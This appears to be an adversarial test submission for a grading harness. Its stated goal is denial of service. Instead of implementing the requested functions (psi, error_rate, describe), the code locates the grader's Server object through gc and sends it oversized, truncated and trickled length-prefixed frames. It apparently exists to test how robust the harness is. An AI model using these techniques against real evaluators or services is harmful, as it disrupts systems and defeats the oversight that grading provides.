# Tries: to answer with frames that are too long, cut off, or come drop by drop.
# Earns: nothing
# Goal: denial

# %%
import gc
import struct
import time

server = next(found for found in gc.get_objects() if type(found).__name__ == "Server")


# %% solution="psi"
def psi(p, q):
    server.channel.sock.sendall(struct.pack("!I", 2**32 - 1) + bytes(1000))
    return 0


# %% solution="errors"
def error_rate(y, predicted):
    server.channel.sock.sendall(struct.pack("!I", 2**26) + bytes(1000))
    server.channel.sock.close()


# %% solution="describe"
def describe(frame):
    server.channel.sock.sendall(struct.pack("!I", 100_000))
    while True:
        server.channel.sock.sendall(b"\0")
        time.sleep(0.2)
